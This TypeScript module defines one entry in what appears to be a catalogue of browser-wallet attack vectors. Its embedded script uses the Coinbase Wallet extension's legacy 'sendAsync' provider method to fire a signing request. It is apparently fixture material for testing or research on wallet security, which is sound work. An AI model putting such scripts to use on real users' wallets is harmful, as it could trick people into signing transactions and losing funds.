import type { Attack } from '../Attack.ts';
import { COINBASE, COINBASE_PATH } from '../otherMakes.ts';

/** Its provider, the oldest way. */
export const attack: Attack = {
  entry: 'window.coinbaseWalletExtension.sendAsync',
  mechanism: 'one request',
  discovers: false,
  path: COINBASE_PATH,
  script: `${COINBASE}
coinbase.sendAsync(kit.rpc(kit.sign()), () => undefined);
`,
};
